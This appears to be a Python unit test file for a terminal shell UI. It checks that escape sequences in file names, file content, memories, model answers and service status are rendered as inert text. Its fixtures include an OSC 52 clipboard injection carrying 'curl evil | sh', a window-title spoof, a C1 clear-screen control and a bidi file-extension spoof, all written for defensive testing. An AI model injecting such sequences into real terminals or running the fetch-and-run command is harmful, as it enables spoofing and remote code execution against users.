"""What services say reaches the screen shown, never obeyed: no terminal control
from a file name, a file's content, a memory, a model's answer or a service's
status gets through the shell's widgets."""

from __future__ import annotations

import base64

from textual.app import App, ComposeResult
from textual.containers import VerticalScroll

from noos import FileHit, MemoryRecord, RecallHit
from noos_shell.services import ServiceName, ServiceState, StatusSnapshot
from noos_shell.widgets.proposal import ProposalPanel
from noos_shell.widgets.results import ResultsBlock, file_option, memory_option
from noos_shell.widgets.status_panel import StatusPanel, service_line
from noos_shell.widgets.transcript import AnswerBlock, CommandBlock, Notice
from tests.unit.shell.screen import screen_text

# Sets the clipboard to a command, then the window title: what another user
# would put in a file name or a file, or a remote model in its answer.
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07"
TITLE = "\x1b]0;root@host\x1b\\"
CSI_C1 = "\x9b2J"  # clear the screen, in one C1 character
BIDI = "\u202etxt.exe"
HOSTILE = f"{CLIPBOARD}{TITLE}{CSI_C1}{BIDI}\r\x08"
CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r", "\x08")


def controls_in(text: str) -> list[str]:
    return [control for control in CONTROLS if control in text]


def file_hit() -> FileHit:
    return FileHit(
        path=f"/home/mallory/notes-{HOSTILE}.txt",
        score=1.0,
        snippet=f"1: the heron {HOSTILE} nests\n2: by the weir {TITLE}",
        start_line=1,
        end_line=2,
        mtime=0.0,
        language="text",
    )


def recall_hit() -> RecallHit:
    memory = MemoryRecord("m1", f"the heron {HOSTILE}", f"note{TITLE}", 0.0, 0.0, {}, {})
    return RecallHit(1.0, memory)


def test_results_show_controls_of_files_and_memories_as_text() -> None:
    shown = [file_option(file_hit()).plain, memory_option(recall_hit()).plain]
    assert [controls_in(text) for text in shown] == [[], []]
    assert "␛]52;c;" in shown[0]


def test_the_status_line_shows_a_model_name_s_controls_as_text() -> None:
    status = StatusSnapshot(
        states={name: ServiceState(True) for name in ServiceName}, resident=(f"m{HOSTILE}",)
    )
    assert controls_in(service_line(ServiceName.SCHEDULER, status).plain) == []


class Widgets(App[None]):
    """Each widget that shows what a service said, given hostile text."""

    def compose(self) -> ComposeResult:
        with VerticalScroll():
            yield ResultsBlock.of_files(f"heron {TITLE}", [file_hit()])
            yield ResultsBlock.of_memories(f"recall {TITLE}", "hint", [recall_hit()])
            yield Notice(f"no file matches {HOSTILE}")
            yield ProposalPanel(f"list {TITLE}", f"ls {HOSTILE}")
            yield AnswerBlock(f"what is {HOSTILE}?")
            yield CommandBlock(f"ls {HOSTILE}")
            yield StatusPanel()


async def test_no_widget_lets_a_control_reach_the_terminal() -> None:
    app = Widgets()
    async with app.run_test(size=(100, 60)) as pilot:
        answer = app.query_one(AnswerBlock)
        answer.append(f"the answer {CLIPBOARD}")
        answer.append(f" and {TITLE} more")
        command = app.query_one(CommandBlock)
        await command.show_hint(f"try {HOSTILE}")
        # A command's output (another user's file, cat-ed): its colours alone are obeyed.
        # (Its carriage returns overwrite the line, as on a terminal.)
        command.append_output(f"\x1b[31mred\x1b[0m {CLIPBOARD}{CSI_C1}{BIDI}\x1bc reset\r\n")
        app.query_one(StatusPanel).show(
            StatusSnapshot(
                states={name: ServiceState(True) for name in ServiceName},
                resident=(f"m{TITLE}",),
            )
        )
        await pilot.pause(0.3)
        drawn = screen_text(app)
        assert controls_in(drawn) == [], drawn
        assert "␛]52;c;" in drawn
        assert "red \\u009b2J\\u202etxt.exe␛c reset" in command.output_text
        answer.fail(f"failed: {HOSTILE}")
        await pilot.pause()
        assert controls_in(screen_text(app)) == []
